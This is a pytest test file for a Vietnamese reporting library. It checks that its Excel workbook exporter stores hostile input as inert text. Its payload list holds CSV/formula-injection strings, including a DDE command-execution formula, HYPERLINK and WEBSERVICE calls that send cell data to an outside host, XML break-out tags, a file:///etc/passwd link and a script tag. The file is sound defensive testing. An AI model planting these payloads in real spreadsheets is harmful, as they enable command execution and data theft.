"""What a commune hands in is words in a workbook: no formula, no link, nothing fetched or run."""

import pytest
from support.executed_report import executed
from support.hostile_notebook import hostile_notebook
from support.narrated import SEED, report_of
from support.opened_workbook import all_words, assert_words_only, opened
from support.poisoned import LINE, WORDS, poisoned_params
from support.sample_report import blocks_cell, code_cell

from cchc_lib.blocks import RESULTS_MIME, Column, Row, Table, text
from cchc_lib.render.xlsx import WorkbookExporter
from cchc_lib.submission import load_submission

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\n=1+1",
    "{=1+1}",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://e.vn?x="&A1,"bấm")',
    '=WEBSERVICE("http://e.vn")',
    '=IMPORTXML("http://e.vn","//a")',
    "https://e.vn/a",
    "mailto:a@e.vn",
    "external:c:\\temp\\a.xlsx",
    "internal:Nguồn!A1",
    "file:///etc/passwd",
    "</t></is></c><c><f>1+1</f></c>",
    "<f>1+1</f>&amp;&#61;1",
    '&"Times,Bold"&20&P&D',
    "'=1+1",
    "1e308",
    "007",
    "53/A<script>alert(1)</script>-UBND",
]  # fmt: skip


def workbook(notebook):
    return WorkbookExporter().from_notebook_node(notebook)[0]


def with_tables(payload):
    """Return the hostile notebook with such words in the tables that become sheets, too."""
    notebook = hostile_notebook(payload)
    columns = (Column((payload, payload), "left", 1), Column((payload, "x"), "right", 1))
    line = Row((text(payload), text(payload)))
    tables = [Table(name, payload, columns, (line,), payload) for name in ("form06", "comparison")]
    notebook["cells"].insert(0, blocks_cell(9, "", ["official"], *tables))
    return notebook


@pytest.mark.parametrize("payload", PAYLOADS)
def test_words_in_every_field_stay_words(payload):
    content = workbook(with_tables(payload))
    assert_words_only(content)
    book = opened(content)
    assert book.sheetnames == ["Số liệu", "Biểu 06", "So sánh", "Phát hiện", "Văn bản", "Nguồn"]
    for sheet in book:
        assert [cell for row in sheet.iter_rows() for cell in row if cell.value == payload], sheet
    assert all_words(book).count(payload) > 25


@pytest.mark.parametrize("payload", ["\x00\x01\x1f=1", "\ud800", "￾￿", "a\x0bb", "ơ" * 40_000])
def test_words_that_a_workbook_cannot_hold_break_nothing(payload):
    content = workbook(code_notebook(payload))
    assert_words_only(content)
    assert max(map(len, all_words(opened(content)))) <= 32_767


def code_notebook(payload):
    figure = {"code": payload, "name": payload, "unit": payload, "status_text": payload}
    results = {"indicators": [figure], "area": payload, "period": {"name": payload}}
    return {"cells": [code_cell(1, "", [], {RESULTS_MIME: results})]}


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    """Return the workbook of the seed with hostile words behind each of its texts."""
    params = poisoned_params(tmp_path_factory.mktemp("poisoned"))
    return workbook(executed(report_of(load_submission(*SEED, str(params)), targets=True)))


def test_a_poisoned_submission_is_words_in_its_workbook(poisoned):
    assert_words_only(poisoned)
    words = all_words(opened(poisoned))
    assert [cell for cell in words if LINE in cell or WORDS in cell]
